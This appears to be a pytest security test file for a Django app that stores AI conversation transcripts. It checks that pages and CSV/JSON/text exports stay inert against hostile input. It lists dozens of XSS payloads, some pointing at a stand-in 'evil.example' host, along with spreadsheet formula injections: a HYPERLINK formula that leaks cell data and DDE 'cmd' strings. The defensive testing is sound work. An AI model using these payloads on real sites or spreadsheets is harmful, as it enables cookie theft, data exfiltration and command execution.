"""Hostile input: XSS payloads stay inert on every page and in every export, spreadsheet formulas are
neutralised, and oversized, malformed or unexpected bodies get a JSON error, never a 500 or HTML."""

import csv
import io
import json

import pytest
from django.test import Client
from django.utils.html import escape
from html_checks import executable_problems, parse_csp

from conversations.models import Conversation, Turn

pytestmark = pytest.mark.django_db

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(document.cookie)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href=" JaVaScRiPt:alert(1)">mixed case</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) x=`",
    "{{ 7|add:7 }}{% debug %}{% csrf_token %}",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=\u0061lert(1)>",
    "\u202e<script>alert(1)</script>\u200b",
    "<!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<x onclick=alert(1)>click me</x>",
    "line one\n<script>alert('two')</script>\nline three",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EXPORT_FORMATS = ["json", "md", "txt", "csv", "srt"]


PAYLOADS = XSS + FORMULAS


def api_post_turns(api, conversation, turns):
    response = api.post(f"/api/conversations/{conversation.pk}/turns/", turns, format="json")
    assert response.status_code == 201, response.content
    return response


@pytest.fixture
def transcript(alice, alice_token_api):
    """A conversation with every payload as the user's words, the assistant's answer and a tool call's
    arguments and output, stored through the ingest API; titled with a payload through the API."""
    conversation = Conversation.objects.create(owner=alice, model="gpt-realtime")
    turns = []
    for index, payload in enumerate(PAYLOADS):
        position = 3 * index
        turns += [
            {"item_id": f"u{index}", "role": "user", "text": payload, "position": position},
            {"item_id": f"a{index}", "role": "assistant", "text": payload, "position": position + 1},
            {
                "item_id": f"t{index}",
                "role": "tool",
                "name": "get_weather",
                "call_id": f"call_{index}",
                "arguments": json.dumps({"location": payload}),
                "output": payload,
                "position": position + 2,
            },
        ]
    api_post_turns(alice_token_api, conversation, turns)
    response = alice_token_api.patch(
        f"/api/conversations/{conversation.pk}/", {"title": XSS[0]}, format="json"
    )
    assert response.status_code == 200, response.content
    return conversation


@pytest.fixture
def titled(alice):
    """One conversation titled with each payload."""
    return [
        (payload, Conversation.objects.create(owner=alice, title=payload.strip()[:200], model="gpt-realtime"))
        for payload in PAYLOADS
    ]


def assert_inert(response, *payloads):
    """The page runs nothing of the payloads: no element, attribute or URL of theirs made it through."""
    assert response.status_code == 200
    html = response.content.decode()
    csp = parse_csp(response["Content-Security-Policy"])
    nonces = [s[len("'nonce-") : -1] for s in csp["script-src"] if s.startswith("'nonce-")]
    assert executable_problems(html, nonce=nonces[0] if nonces else None) == [], response.request["PATH_INFO"]
    for payload in payloads:
        # Quotes may stay raw in text and in JSON data blocks; they only matter inside an attribute,
        # and an attribute that escaped would have been found above.
        if "<" in payload:
            assert payload not in html
    return html


def test_payloads_are_long_enough_a_list():
    assert len(XSS) >= 30


def test_the_history_pages_render_titles_and_transcripts_inert(alice_client, transcript, titled):
    seen = "".join(assert_inert(alice_client.get(f"/conversations/?page={n}"), *XSS) for n in (1, 2, 3))
    for payload, conversation in titled:
        assert escape(conversation.title) in seen, payload
        for url in (f"/conversations/{conversation.pk}/", f"/conversations/{conversation.pk}/delete/"):
            html = assert_inert(alice_client.get(url), payload)
            assert escape(conversation.title) in html
    html = assert_inert(alice_client.get(f"/conversations/{transcript.pk}/"), *PAYLOADS)
    for payload in PAYLOADS:
        assert escape(payload.splitlines()[-1]) in html, payload
    for payload in XSS:
        assert_inert(alice_client.get("/conversations/", {"q": payload}), payload)


def test_the_talk_page_hands_stored_turns_to_the_script_as_json_data(alice_client, transcript, titled):
    for payload, conversation in titled:
        assert_inert(alice_client.get("/", {"conversation": str(conversation.pk)}), payload)
    html = assert_inert(alice_client.get("/", {"conversation": str(transcript.pk)}), *PAYLOADS)
    start = html.index('<script id="talk-config" type="application/json">')
    data = html[start:].split(">", 1)[1].split("</script>", 1)[0]
    assert "<" not in data, "json_script escapes < so that the data block cannot end early"
    config = json.loads(data)
    assert [t["text"] for t in config["turns"] if t["role"] == "user"] == PAYLOADS


def test_a_hostile_rename_through_the_form_is_inert_too(alice_client, alice_conversation):
    for payload in XSS[:10]:
        response = alice_client.post(f"/conversations/{alice_conversation.pk}/rename/", {"title": payload})
        assert response.status_code == 302
        assert_inert(alice_client.get(f"/conversations/{alice_conversation.pk}/"), payload)


def test_the_admin_renders_titles_and_transcripts_inert(staff, transcript, titled):
    admin = Client()
    admin.force_login(staff)
    assert_inert(admin.get("/admin/conversations/conversation/"), *XSS)
    assert_inert(admin.get("/admin/conversations/usage/"), *XSS)
    for payload in XSS[:8]:
        assert_inert(admin.get("/admin/conversations/conversation/", {"q": payload}), payload)
    assert_inert(admin.get(f"/admin/conversations/conversation/{transcript.pk}/change/"), *PAYLOADS)
    # The changelist showed every title; the change form escapes them all alike, so a sample will do.
    for payload, conversation in titled[::4]:
        assert_inert(admin.get(f"/admin/conversations/conversation/{conversation.pk}/change/"), payload)


def download(api, conversation, export_format):
    response = api.get(f"/api/conversations/{conversation.pk}/export/", {"format": export_format})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "html" not in response["Content-Type"] and "xml" not in response["Content-Type"]
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_json_exports_are_valid_json_with_the_exact_text(alice_token_api, transcript, titled):
    text = download(alice_token_api, transcript, "json")
    assert "<" not in text, "escaped like json_script, in case something renders the file as HTML"
    data = json.loads(text)
    assert data["title"] == XSS[0]
    by_id = {turn["item_id"]: turn for turn in data["turns"]}
    for index, payload in enumerate(PAYLOADS):
        assert (
            by_id[f"u{index}"]["text"]
            == by_id[f"a{index}"]["text"]
            == by_id[f"t{index}"]["output"]
            == payload
        )
        assert json.loads(by_id[f"t{index}"]["arguments"]) == {"location": payload}
    for _, conversation in titled:
        assert json.loads(download(alice_token_api, conversation, "json"))["title"] == conversation.title
    account = json.loads(b"".join(alice_token_api.get("/api/export/").streaming_content))
    assert {c["title"] for c in account["conversations"]} == {XSS[0]} | {c.title for _, c in titled}


def test_text_markdown_and_subtitle_exports_are_plain_text_attachments(alice_token_api, transcript, titled):
    text = download(alice_token_api, transcript, "txt")
    srt = download(alice_token_api, transcript, "srt")
    download(alice_token_api, transcript, "md")
    for payload in PAYLOADS:
        assert payload.strip() in text or payload.strip().replace("\r", "") in text, payload
        assert payload.splitlines()[-1].strip() in srt, payload
    for _, conversation in titled:
        assert conversation.title in download(alice_token_api, conversation, "txt")
        download(alice_token_api, conversation, "md")


def test_csv_exports_neutralise_spreadsheet_formulas(alice_token_api, transcript):
    rows = list(csv.reader(io.StringIO(download(alice_token_api, transcript, "csv"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == 3 * len(PAYLOADS)
    for row in body:
        for name, cell in zip(header, row, strict=True):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    by_id = {row[header.index("item_id")]: row for row in body}
    for index, payload in enumerate(PAYLOADS):
        formula = payload.startswith(("=", "+", "-", "@", "\t", "\r"))
        expected = "'" + payload if formula else payload
        assert by_id[f"u{index}"][header.index("text")] == expected
        assert by_id[f"t{index}"][header.index("output")] == expected


def test_a_formula_in_an_item_id_or_tool_name_is_neutralised_too(alice_token_api, alice_conversation):
    api_post_turns(
        alice_token_api,
        alice_conversation,
        {"item_id": "=1+1", "role": "tool", "name": "@SUM(A1)", "arguments": "+1", "output": "-1"},
    )
    rows = list(csv.reader(io.StringIO(download(alice_token_api, alice_conversation, "csv"))))
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in rows[1])


# --- Oversized, malformed and unexpected bodies ----------------------------------------------------


@pytest.fixture
def bodies(alice_api, alice_conversation, upstreams):
    """(client, method, url) of every endpoint that reads a JSON body, for a logged-in browser."""
    return [
        ("post", f"/api/conversations/{alice_conversation.pk}/turns/"),
        ("patch", f"/api/conversations/{alice_conversation.pk}/"),
        ("post", "/realtime/session/"),
    ]


def raw(api, method, url, data, content_type="application/json"):
    return getattr(api, method)(url, data=data, content_type=content_type)


def assert_json_error(response, *statuses):
    assert response.status_code in statuses, (response.status_code, response.content[:200])
    assert response["Content-Type"] == "application/json"
    assert isinstance(response.json(), dict | list)


@pytest.mark.parametrize("index", [0, 1, 2], ids=["turns", "patch", "mint"])
def test_oversized_bodies_get_a_json_413(settings, alice_api, bodies, upstreams, index):
    method, url = bodies[index]
    padding = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)
    big = json.dumps({"item_id": "big", "role": "user", "text": padding})
    if url.endswith("/session/"):
        big = json.dumps({"conversation": None, "padding": padding})
    response = raw(alice_api, method, url, big)
    assert_json_error(response, 413)
    assert response.json() == {"detail": "The request body is too large."}
    assert not upstreams["mint"].called


def test_oversized_form_bodies_get_a_json_413_too(settings, alice_api, alice_conversation):
    padding = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)
    url = f"/api/conversations/{alice_conversation.pk}/turns/"
    response = alice_api.post(
        url, data=f"item_id=big&role=user&text={padding}", content_type="application/x-www-form-urlencoded"
    )
    assert_json_error(response, 413, 415)


def test_a_text_too_long_for_a_turn_is_a_400_naming_the_field(settings, alice_api, alice_conversation):
    url = f"/api/conversations/{alice_conversation.pk}/turns/"
    body = {"item_id": "long", "role": "user", "text": "x" * (settings.TURN_TEXT_MAX_LENGTH + 1)}
    response = alice_api.post(url, body, format="json")
    assert_json_error(response, 400)
    assert "text" in response.json()
    assert not Turn.objects.filter(item_id="long").exists()


@pytest.mark.parametrize(
    "body",
    ["{", '{"item_id": ', "not json", "\x00\x01", '{"a": NaN}', "[1, 2", '"\\ud800"', "\ufeff{}", "{'a': 1}"],
)
def test_malformed_json_gets_a_json_400(alice_api, bodies, upstreams, body):
    for method, url in bodies:
        response = raw(alice_api, method, url, body)
        assert_json_error(response, 400)
    assert not upstreams["mint"].called


@pytest.mark.parametrize(
    "body",
    [[], [1, 2], ["x"], [[]], 42, "text", None, True, {"item_id": None}, {"item_id": ["a"], "role": "user"}],
    ids=repr,
)
def test_json_of_the_wrong_shape_gets_a_json_400(alice_api, bodies, body):
    for method, url in bodies[:2]:
        response = raw(alice_api, method, url, json.dumps(body))
        assert_json_error(response, 400)


def test_a_wrong_content_type_gets_a_json_415(alice_api, bodies):
    for method, url in bodies[:2]:
        response = raw(alice_api, method, url, "<turn/>", content_type="application/xml")
        assert_json_error(response, 415)


def test_unknown_fields_are_rejected_by_name_on_every_json_body(alice_api, alice_conversation, upstreams):
    """serializers.py: a field the API does not know is an error (400) naming it, on every body."""
    turns = f"/api/conversations/{alice_conversation.pk}/turns/"
    response = alice_api.post(
        turns, {"item_id": "x", "role": "user", "text": "hi", "colour": "red"}, format="json"
    )
    assert_json_error(response, 400)
    assert list(response.json()) == ["colour"]
    response = alice_api.post(turns, [{"item_id": "x", "role": "user", "speaker": "me"}], format="json")
    assert_json_error(response, 400)
    patch = alice_api.patch(f"/api/conversations/{alice_conversation.pk}/", {"model": "gpt-5"}, format="json")
    assert_json_error(patch, 400)
    assert list(patch.json()) == ["model"]
    mint = alice_api.post("/realtime/session/", {"model": "gpt-5"}, format="json")
    assert_json_error(mint, 400)
    assert list(mint.json()) == ["model"]
    assert not upstreams["mint"].called
    alice_conversation.refresh_from_db()
    assert alice_conversation.model == "gpt-realtime" and not alice_conversation.turns.exists()


@pytest.mark.parametrize("opening, closing", [("[", "]"), ('{"a": ', "}")], ids=["arrays", "objects"])
def test_json_nested_deeper_than_any_turn_gets_a_json_400(alice_api, bodies, upstreams, opening, closing):
    deep = opening * 100_000 + "1" + closing * 100_000
    for method, url in bodies:
        response = raw(alice_api, method, url, deep)
        assert_json_error(response, 400)
        assert response.json() == {"detail": "The request body is nested too deeply."}
    assert not upstreams["mint"].called


def test_a_nul_character_in_a_search_is_ignored(alice_client, alice_token_api, staff, alice_conversation):
    """PostgreSQL cannot compare text with NUL characters, and no stored text contains one."""
    page = alice_client.get("/conversations/", {"q": "\x00Oslo\x00"})
    assert page.status_code == 200
    assert [c.pk for c in page.context["conversations"]] == [alice_conversation.pk]
    assert alice_client.get("/conversations/", {"q": "\x00"}).status_code == 200
    api = alice_token_api.get("/api/conversations/", {"search": "\x00"})
    assert_json_error(api, 400)
    assert api.json() == {"search": ["Null characters are not allowed."]}
    admin = Client()
    admin.force_login(staff)
    assert admin.get("/admin/conversations/conversation/", {"q": "\x00"}).status_code == 200
    assert admin.get("/admin/conversations/usage/", {"q": "\x00"}).status_code == 200
